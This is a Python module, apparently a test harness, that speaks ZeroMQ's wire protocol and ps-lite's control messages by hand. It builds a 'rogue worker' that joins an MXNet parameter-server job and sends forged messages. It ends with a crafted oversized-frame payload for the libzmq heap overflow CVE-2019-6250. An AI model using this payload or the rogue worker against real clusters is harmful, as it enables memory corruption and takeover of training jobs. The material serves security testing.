"""A peer that speaks ZeroMQ's wire protocol and ps-lite's messages by hand: what an admitted node can send.

ZMTP 3.0 (rfc.zeromq.org/spec/23) with the NULL mechanism; protobuf fields as in ps-lite's src/meta.proto.
Standard library only.
"""

import re
import socket
import struct
import time

TERMINATE, ADD_NODE, BARRIER, ACK, HEARTBEAT = range(1, 6)
_FIELDS = {
    "head": 1, "body": 2, "control": 3, "request": 4, "push": 5, "simple_app": 6, "app_id": 7, "timestamp": 8,
    "customer_id": 10, "pull": 12, "priority": 13,
}  # fmt: skip
_NODE_FIELDS = {"role": 1, "id": 2, "hostname": 3, "port": 4, "is_recovery": 5, "customer_id": 10}


def varint(value: int) -> bytes:
    value &= (1 << 64) - 1
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def _field(number: int, value: int | bytes) -> bytes:
    if isinstance(value, bytes):
        return varint(number << 3 | 2) + varint(len(value)) + value
    return varint(number << 3) + varint(int(value))


def node(**fields: int | bytes) -> bytes:
    """Return a PBNode."""
    return b"".join(_field(_NODE_FIELDS[name], value) for name, value in fields.items())


def control(command: int, *nodes: bytes, group: int = 0) -> bytes:
    """Return a PBControl."""
    return _field(1, command) + b"".join(_field(2, one) for one in nodes) + (_field(3, group) if group else b"")


def meta(**fields: int | bytes) -> bytes:
    """Return a PBMeta."""
    return b"".join(_field(_FIELDS[name], value) for name, value in fields.items())


def keys(*values: int) -> bytes:
    return struct.pack(f"={len(values)}Q", *values)


def lengths(*values: int) -> bytes:
    return struct.pack(f"={len(values)}i", *values)


class Peer:
    """One connection to a node of a job, with an identity of the peer's choice, from `source`, its own address."""

    def __init__(self, host: str, port: int, identity: bytes = b"", timeout: float = 10, source: str = "") -> None:
        self.socket = socket.create_connection((host, port), timeout=timeout, source_address=(source, 0))
        try:
            self._greet(b"DEALER", identity)
        except OSError:
            self.socket.close()
            raise

    @classmethod
    def accepted(cls, connection: socket.socket, timeout: float = 60) -> "Peer":
        """Return the other end of a connection that a node has opened to this one."""
        peer = cls.__new__(cls)
        peer.socket = connection
        connection.settimeout(timeout)
        peer._greet(b"ROUTER", b"")
        return peer

    def _greet(self, kind: bytes, identity: bytes) -> None:
        self.socket.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32))
        self._receive(64)
        properties = b"".join(
            bytes([len(name)]) + name + struct.pack(">I", len(value)) + value
            for name, value in ((b"Socket-Type", kind), (b"Identity", identity))
        )
        self._frame(b"\x05READY" + properties, 0x04)
        size = self._receive(2)[1]
        self._receive(size)

    def send(self, *frames: bytes) -> None:
        """Send one message."""
        for index, frame in enumerate(frames):
            self._frame(frame, 0x01 if index < len(frames) - 1 else 0)

    def send_part(self, frame: bytes) -> None:
        """Send a frame of a message that has more."""
        self._frame(frame, 0x01)

    def send_raw(self, data: bytes) -> None:
        """Send bytes that need not be a frame."""
        self.socket.sendall(data)

    def await_frame(self, pattern: bytes) -> None:
        """Return once a frame with this pattern has come."""
        while True:
            flags, size = self._receive(2)
            if flags & 0x02:  # a long frame: eight bytes of length
                size = int.from_bytes(bytes([size]) + self._receive(7), "big")
            if re.search(pattern, self._receive(size), re.DOTALL):
                return

    def is_closed(self) -> bool:
        """Whether the node ends the connection within the time-out."""
        try:
            return self.socket.recv(1) == b""
        except ConnectionError:
            return True
        except TimeoutError:
            return False

    def close(self) -> None:
        self.socket.close()

    def _frame(self, body: bytes, flags: int) -> None:
        if len(body) > 255:
            self.socket.sendall(bytes([flags | 0x02]) + struct.pack(">Q", len(body)) + body)
        else:
            self.socket.sendall(bytes([flags, len(body)]) + body)

    def _receive(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            piece = self.socket.recv(size - len(data))
            if not piece:
                raise ConnectionError("the node closed the connection")
            data += piece
        return data


def once_it_listens(address: tuple[str, int], source: str, timeout: float = 60, identity: bytes = b"") -> Peer:
    """Return a connection to a node that may not have started."""
    deadline = time.monotonic() + timeout
    while True:
        try:
            return Peer(*address, identity, source=source)
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.05)


class RogueWorker:
    """A worker of the job made by hand: it joins as MXNet's would, and then sends what it likes."""

    def __init__(self, scheduler: tuple[str, int], own: tuple[str, int], rank: int) -> None:
        self.identity, self._source = b"ps%d" % (9 + 2 * rank), own[0]
        listener = socket.create_server(own)
        listener.settimeout(60)
        self._open: list[Peer | socket.socket] = [listener]
        entry = node(role=1, hostname=own[0].encode(), port=own[1], is_recovery=0, customer_id=0)
        joining = once_it_listens(scheduler, own[0])
        self._open.append(joining)
        joining.send(meta(control=control(ADD_NODE, entry)))
        self._from_scheduler = listener.accept()[0]  # it has everybody, and tells them
        self._open.append(self._from_scheduler)
        self.to_scheduler = self.dial(scheduler)
        for group in (7, 4):  # everybody's, when the job has formed, and the workers', for the first `kv.init`
            self.to_scheduler.send(meta(request=1, app_id=0, customer_id=0, control=control(BARRIER, group=group)))

    def dial(self, address: tuple[str, int]) -> Peer:
        """Return a connection with this worker's own identity."""
        self._open.append(Peer(*address, self.identity, source=self._source))
        return self._open[-1]

    def await_start(self) -> None:
        """Return once both barriers are over at which this worker has waited; the answers do not say which is which."""
        scheduler = Peer.accepted(self._from_scheduler)
        for _ in range(2):
            scheduler.await_frame(rb"\x1a.\x08%c" % BARRIER)  # a PBControl in a PBMeta

    def close(self) -> None:
        for one in self._open:
            one.close()


#: A frame that says it has 2^64-1 bytes. libzmq 4.2.2 takes it for one that fits its buffer (CVE-2019-6250) and
#: receives what follows beyond the buffer's end: send `OVERFLOW` after it, again and again.
HUGE_FRAME = b"\x02" + b"\xff" * 8
OVERFLOW = b"A" * 65536
